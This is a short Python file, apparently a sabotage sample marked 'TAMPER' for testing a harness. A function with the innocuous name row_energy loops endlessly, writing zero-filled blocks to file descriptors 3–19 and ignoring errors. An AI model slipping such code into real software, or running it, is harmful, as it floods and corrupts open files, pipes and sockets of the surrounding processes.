"""Writes without end to every descriptor it has.

TAMPER
"""

import os


def row_energy(x):
    while True:
        for number in range(3, 20):
            try:
                os.write(number, bytes(1 << 16))
            except OSError:
                pass


def walk(start, n, step):
    found = []
    for _ in range(n):
        start = step(start)
        found.append(start)
    return found
